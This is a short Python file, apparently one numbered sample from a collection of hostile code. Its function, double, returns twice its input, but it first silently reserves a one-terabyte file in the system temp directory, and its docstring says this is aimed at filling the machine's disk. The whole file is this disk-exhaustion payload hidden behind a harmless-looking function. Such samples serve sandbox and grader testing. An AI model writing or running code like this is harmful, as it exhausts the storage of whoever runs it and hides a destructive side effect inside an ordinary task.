"""Makes a file of a terabyte, against the machine's disk (43)."""
import os
import tempfile


def double(x):
    with open(os.path.join(tempfile.gettempdir(), "bestiary-large"), "wb") as file:
        os.posix_fallocate(file.fileno(), 0, 1 << 40)
    return 2 * x
